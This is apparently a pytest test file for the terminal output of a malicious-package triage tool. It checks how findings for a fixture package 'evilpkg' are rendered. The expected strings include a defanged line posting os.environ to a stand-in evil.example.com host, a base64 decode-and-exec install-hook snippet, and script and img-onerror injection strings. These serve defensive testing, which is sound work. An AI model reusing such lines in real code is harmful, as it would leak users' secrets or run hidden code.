"""Terminal: locations, real line numbers, literal package text, colour only on request."""

from __future__ import annotations

from tests.render_factory import benign_report, hostile_report, malicious_report
from triage.render.terminal import render, render_batch_summary


def test_plain_output_has_locations_indicators_and_line_numbers() -> None:
    text = render(malicious_report())
    lines = text.splitlines()
    assert lines[0].startswith("╭─  MALICIOUS   score 96.5/100  evilpkg 1.0.2 ─")
    for expected in (
        "│ sha256  3f1c9a0e5b7d2c4f6a8e0b1d3c5f7a9e2b4d6f8a0c1e3b5d7f9a2c4e6b8d0f1a",
        "│ source  evilpkg-1.0.2.tar.gz (sdist)",
        "│ engine  anthropic/claude-sonnet-4, 3 files analysed, 1.25 s",
        "│         • payload exfiltrates data to evil[.]example[.]com",
        "  1. install → code_execution_install_hook_override (setup.py:10)",
        "  3. install → code_exfiltration_data (setup.py#decoded-1:3)",
        "│   12         exec(base64.b64decode(",
        '│   13             "aW1wb3J0IHJlcXVlc3Rz"))',
        "│   10 class PostInstall(install):",
        "│ decoded from: setup.py:12:0",
        "  • evilpkg/bin/payload.exe: binary file (PE executable)  [evidence]",
        "  • evilpkg/logo.png: binary file (PNG image)",
        "  • evilpkg/big.py was not reviewed by the LLM (too large)",
    ):
        assert any(line.startswith(expected) for line in lines), expected
    title = "╭─ #2 setup.py:12-13  code_execution_encoded_command  critical · install · both · 0.95"
    assert title in text
    assert "#3 setup.py#decoded-1:3  code_exfiltration_data  high · install · llm · 0.70" in text
    assert '│   3 requests.post("hxxps://evil[.]example[.]com/collect", data=os.environ);' in text
    assert "evil.example.com" not in text and "https://" not in text
    assert "\x1b[" not in text
    assert max(len(line) for line in lines) <= 100


def test_rich_markup_in_package_text_is_literal() -> None:
    text = render(hostile_report())
    assert "│    7 x = '[bold red]boom[/]' # </code></pre><script>alert(1)</script>" in text
    assert "│   10 ```'''" in text
    assert "│ why: Uses [red]markup[/red] and <b>html</b> | pipes." in text
    assert "  • <img src=x onerror=alert(1)>.so: binary [bold]x[/bold]  [evidence]" in text


def test_colour_and_width_are_parameters() -> None:
    coloured = render(malicious_report(), color=True)
    assert "\x1b[" in coloured
    narrow = render(malicious_report(), width=60)
    assert max(len(line) for line in narrow.splitlines()) <= 60
    assert "setup.py:12-13" in narrow


def test_output_is_deterministic() -> None:
    assert render(malicious_report()) == render(malicious_report())
    assert render(malicious_report(), color=True) == render(malicious_report(), color=True)


def test_benign_report() -> None:
    lines = render(benign_report()).splitlines()
    assert lines[0].startswith("╭─  BENIGN   score 0.0/100  goodpkg 2.0 ─")
    assert lines[3].startswith("│ engine  static, 1 file analysed, 0.10 s")
    assert lines[-2:] == ["Findings (0)", "  No malicious statements found."]


def test_batch_summary_table() -> None:
    lines = render_batch_summary([malicious_report(), benign_report()]).splitlines()
    assert lines[0].rstrip() == "triage: 2 targets"
    assert lines[4] == "│ evilpkg-1.0.2.tar.gz │ evilpkg 1.0.2 │ malicious │  96.5 │        3 │"
    assert lines[5] == "│ goodpkg==2.0         │ goodpkg 2.0   │ benign    │   0.0 │        0 │"
    assert lines[-1] == "1 malicious, 1 benign"
    assert render_batch_summary([]).splitlines()[-1] == "no targets"
